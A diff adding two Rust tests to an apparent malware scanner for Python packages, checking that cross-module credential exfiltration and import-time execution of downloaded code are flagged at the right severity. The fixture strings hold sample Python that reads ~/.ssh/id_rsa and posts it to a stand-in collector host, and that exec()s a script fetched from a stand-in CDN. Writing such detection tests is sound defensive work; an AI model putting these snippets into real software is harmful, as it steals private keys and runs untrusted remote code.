@@ -3070,3 +3070,61 @@ fn a_login_agent_written_is_persistence() {
         assert!(f.is_some_and(|f| f.severity == Severity::High), "{:#?}", report.findings);
     }
 }
+
+/// What one module reads from a credential store and hands to another
+/// module's function, whose parameter reaches a send there, leaves the
+/// package: exfiltration, reported at the send with the caller named. An
+/// argument for a parameter that reaches no send does not. Written for
+/// the test.
+#[test]
+fn credentials_handed_to_another_files_sender_are_exfiltration() {
+    let grab = "import os\nfrom .net import send\n\
+                def collect():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    \
+                send('status', key)\n    send(payload=key, note='k')\n";
+    let net = |sent: &str| {
+        format!(
+            "import json, requests\nURL = 'https://collector.example.invalid/k'\n\
+             def send(note, payload=None):\n    body = {{'v': {sent}}}\n    data = json.dumps(body)\n    \
+             requests.post(URL, data=data)\n"
+        )
+    };
+    let exfiltration = |net: &str| {
+        let report = scan(
+            &ManifestFacts::default(),
+            &[
+                Entry { path: "pkg/grab.py", bytes: grab.as_bytes() },
+                Entry { path: "pkg/net.py", bytes: net.as_bytes() },
+            ],
+        );
+        report.findings.into_iter().find(|f| f.rule == "exfiltration" && f.file == "pkg/net.py")
+    };
+    let sent = exfiltration(&net("payload"));
+    let Some(f) = sent else { panic!("no exfiltration for the handed key") };
+    assert!(f.severity >= Severity::High, "{f:#?}");
+    assert!(f.because.iter().any(|b| b.contains("pkg/grab.py")), "{f:#?}");
+    // Only the note is sent: the key handed to `payload` goes nowhere.
+    assert!(exfiltration(&net("note")).is_none());
+}
+
+/// A method called, while the package loads, on an instance of another
+/// module's class made at the top level (`_s = Store(); _s.warm()`) runs
+/// that module's method then: code it fetches and runs is the package's
+/// own act (critical), not a loader's work on request (high). Written for
+/// the test.
+#[test]
+fn a_method_of_another_modules_instance_called_while_loading_runs_then() {
+    let store = "import requests\nclass Store:\n    def warm(self):\n        \
+                 exec(requests.get('https://cdn.example.invalid/s.py').text)\n";
+    let level = |init: &str| {
+        let report = scan(
+            &ManifestFacts::default(),
+            &[
+                Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
+                Entry { path: "pkg/store.py", bytes: store.as_bytes() },
+            ],
+        );
+        report.findings.into_iter().filter(|f| f.rule == "exec-downloaded").map(|f| f.severity).max()
+    };
+    assert_eq!(level("from .store import Store\n_s = Store()\n_s.warm()\n"), Some(Severity::Critical));
+    assert_eq!(level("from .store import Store\n_s = Store()\n"), Some(Severity::High));
+}
